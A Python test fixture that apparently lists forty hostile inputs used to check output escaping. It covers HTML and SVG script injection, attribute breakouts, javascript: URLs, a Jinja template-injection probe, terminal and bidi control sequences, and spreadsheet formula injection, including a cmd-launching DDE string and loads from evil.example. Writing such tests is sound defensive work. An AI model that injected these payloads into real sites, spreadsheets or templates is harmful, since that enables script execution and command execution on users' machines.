"""Forty hostile texts: each would set `window.pwned`, load something, or steer a terminal or a spreadsheet."""

from __future__ import annotations

INJECTIONS: tuple[str, ...] = (
    # elements
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=2</script>",
    "</style><script>window.pwned=3</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.pwned=4>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=window.pwned=5>",
    "<svg><animate onbegin=window.pwned=6 attributeName=x dur=1s>",
    "<svg><script href='data:text/javascript,window.pwned=7'/></svg>",
    "<iframe srcdoc='<script>parent.pwned=8</script>'></iframe>",
    "<object data='data:text/html,<script>window.pwned=9</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><button autofocus>go</button></form>",
    "<details open ontoggle=window.pwned=10>x</details>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<math><mtext><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=11>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=12>'>",
    "<!--><img src=x onerror=window.pwned=13>-->",
    # attributes
    "\" onmouseover=\"window.pwned=14\" x=\"",
    "' autofocus onfocus='window.pwned=15' x='",
    "x` onclick=`window.pwned=16",
    "\"><img src=x onerror=window.pwned=17>",
    "]\" data-groups='[' onload=\"window.pwned=18",
    # addresses
    "javascript:window.pwned=19",
    "JaVaScRiPt:window.pwned=20//https://shop.example/",
    " https://shop.example/\"onclick=\"window.pwned=21",
    "data:text/html,<script>window.pwned=22</script>",
    "https://shop.example/<script>window.pwned=23</script>",
    "vbscript:msgbox(1)",
    # templates
    "{{ 7 * 7 }}{% raw %}{{ config }}{% endraw %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    # direction, control and terminal
    "\u202egnp.exe\u202c \u2066isolated without an end",
    "\x1b[2J\x1b]0;owned\x07\x9b31mred",
    "null \x00 and half a pair \ud83d",
    # spreadsheets
    "=HYPERLINK(\"https://evil.example/\",\"click\")",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t+1+1\r\n-2+3",
)  # fmt: skip
assert len(INJECTIONS) == 40
